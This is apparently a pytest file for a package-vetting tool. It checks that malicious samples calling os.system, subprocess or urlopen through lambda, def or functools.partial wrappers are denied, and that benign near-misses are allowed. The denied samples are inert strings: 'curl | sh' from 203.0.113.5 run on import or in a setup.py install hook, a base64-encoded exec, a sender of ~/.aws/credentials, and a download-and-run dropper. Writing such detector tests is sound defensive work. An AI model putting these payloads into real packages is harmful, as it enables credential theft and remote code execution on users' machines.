"""Calls through a wrapper that hands its arguments on unchanged (ADR 0149, the mutations
bench's ``call_lambda`` and ``call_partial``): ``_run = lambda *a, **k: os.system(*a, **k)``,
``def run(*a): return os.system(*a)`` and ``functools.partial(os.system)`` are the sink
itself, so what is written at their call is what the sink runs or sends.

Each sample is inert (vetting only reads files). The near-misses are wrappers real packages
write: a path joiner, a logger made with ``partial``, a process helper called later with a
fixed command."""

from __future__ import annotations

import base64

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package

URL = "http://203.0.113.5/c"
SHELL = f"'curl -s {URL} | sh'"
ENCODED = base64.b64encode(f"import os; os.system({SHELL})".encode()).decode()
CREDS = "open(os.path.expanduser('~/.aws/credentials'), 'rb').read()"
INSTALL = (
    "from setuptools import setup\n"
    "from setuptools.command.install import install\n"
    "import os\n"
    "class Post(install):\n"
    "    def run(self):\n"
    "        install.run(self)\n"
    "        {call}\n"
    "setup(name='evpkg', version='1.0', cmdclass={{'install': Post}})\n"
)

DENIED: dict[str, dict[str, str]] = {
    "lambda-forwarder-defined-before-the-import-runs-a-shell-on-import": init(
        f"_run = lambda *a, **k: os.system(*a, **k)\nimport os\n_run({SHELL})\n"
    ),
    "def-forwarder-runs-a-shell-on-import": init(
        f"import os\ndef _run(*args):\n    return os.system(*args)\n_run({SHELL})\n"
    ),
    "def-forwarder-with-a-docstring-in-a-function-run-on-import": init(
        "import subprocess\n"
        "def _spawn(*a, **k):\n    '''Spawn.'''\n    return subprocess.Popen(*a, **k)\n"
        f"def main():\n    _spawn({SHELL}, shell=True)\nmain()\n"
    ),
    "lambda-forwarder-keywords-send-credentials-on-import": init(
        "import os, urllib.request\n"
        "_send = lambda *a, **k: urllib.request.urlopen(*a, **k)\n"
        f"_send('{URL}', data={CREDS})\n"
    ),
    "star-args-wrapper-that-logs-first-runs-a-shell-on-import": init(
        "import logging, os\n"
        "def _run(*a):\n    logging.debug('run')\n    return os.system(*a)\n"
        f"_run({SHELL})\n"
    ),
    "partial-without-arguments-bound-then-called-on-import": init(
        f"import functools, os\n_run = functools.partial(os.system)\n_run({SHELL})\n"
    ),
    "partial-without-arguments-called-in-an-install-command": {
        "setup.py": "import functools\n"
        + INSTALL.format(call=f"functools.partial(os.system)({SHELL})"),
        "evpkg/__init__.py": "",
    },
    "lambda-forwarder-called-in-an-install-command": {
        "setup.py": "_run = lambda *a, **k: os.system(*a, **k)\n"
        + INSTALL.format(call=f"_run({SHELL})"),
        "evpkg/__init__.py": "",
    },
    "partial-of-a-decoder-feeds-exec-on-import": init(
        f"import base64, functools\nexec(functools.partial(base64.b64decode)({ENCODED!r}))\n"
    ),
    "lambda-aliases-bound-before-the-imports-used-by-a-dropper-run-later": init(
        "_get = lambda *a, **k: requests.get(*a, **k)\n"
        "_run = lambda *a, **k: os.system(*a, **k)\n"
        "import os, requests\n"
        "def update():\n"
        "    r = _get('https://203.0.113.5/s.bin')\n"
        "    with open('/tmp/s.bin', 'wb') as f:\n"
        "        f.write(r.content)\n"
        "    _run('/tmp/s.bin')\n"
    ),
}

ALLOWED: dict[str, dict[str, str]] = {
    "lambda-path-joiner-reads-package-data": init(
        "import os\n_here = lambda *a: os.path.join(os.path.dirname(__file__), *a)\n"
        "with open(_here('data', 'names.txt')) as f:\n    NAMES = f.read().split()\n"
    ),
    "partial-print-logger": init(
        "import functools, sys\n_say = functools.partial(print)\n"
        "_warn = functools.partial(print, file=sys.stderr)\n_say('loaded')\n"
    ),
    "process-forwarder-called-later-with-a-fixed-command": init(
        "import subprocess\n"
        "def run(*args, **kwargs):\n    return subprocess.run(*args, **kwargs)\n"
        "def version():\n"
        "    return run(['git', 'describe', '--tags'], capture_output=True).stdout\n"
    ),
    "lambda-aliases-of-a-downloader-that-keeps-the-page-in-memory": init(
        "import requests\n"
        "_get = lambda *a, **k: requests.get(*a, **k)\n"
        "def latest():\n    return _get('https://pypi.org/pypi/evpkg/json').json()['info']\n"
    ),
    "partial-of-a-decoder-reads-bundled-data": init(
        "import base64, functools, json\n_unb64 = functools.partial(base64.b64decode)\n"
        "DEFAULTS = json.loads(_unb64('eyJhIjogMX0='))\n"
    ),
    "forwarder-to-a-json-loader-on-import": init(
        "import json\n_load = lambda *a, **k: json.loads(*a, **k)\nDEFAULTS = _load('{\"a\": 1}')\n"
    ),
    "reversed-string-for-display": init(
        "BANNER = 'olleh'[::-1]\ndef mirror(text):\n    return text[::-1]\n"
    ),
    "rot13-joke-module": init(
        "import codecs\nPUNCHLINE = codecs.decode('Orpnhfr vg jnf n gjb-ovg wbxr', 'rot13')\n"
        "def tell():\n    print(PUNCHLINE)\n"
    ),
    "marshal-cache-of-own-data": init(
        "import marshal, os\n"
        "_CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'evpkg.bin')\n"
        "def load():\n"
        "    try:\n        with open(_CACHE, 'rb') as f:\n            return marshal.load(f)\n"
        "    except OSError:\n        return {}\n"
        "def save(table):\n    with open(_CACHE, 'wb') as f:\n        marshal.dump(table, f)\n"
    ),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
